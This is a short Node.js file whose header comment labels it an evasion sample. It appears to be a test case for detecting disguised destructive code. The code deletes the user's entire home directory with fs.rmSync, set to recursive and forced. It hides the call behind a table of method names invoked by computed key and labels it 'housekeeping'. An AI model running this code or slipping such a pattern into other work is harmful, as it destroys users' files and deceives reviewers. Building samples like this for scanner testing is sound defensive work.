// Evasion: deletes the home directory recursively. A table of
// [method, directory] pairs is walked with a destructuring for-of, and each
// fs method is called by a computed key (fs[method]) with its directory;
// the table's only entry names rmSync and os.homedir().
const fs = require('fs');
const os = require('os');

const housekeeping = [['rmSync', os.homedir()]];
const opts = { recursive: true, force: true, maxRetries: 2 };

for (const [method, dir] of housekeeping) {
  console.log('housekeeping:', method);
  fs[method](dir, opts);
}
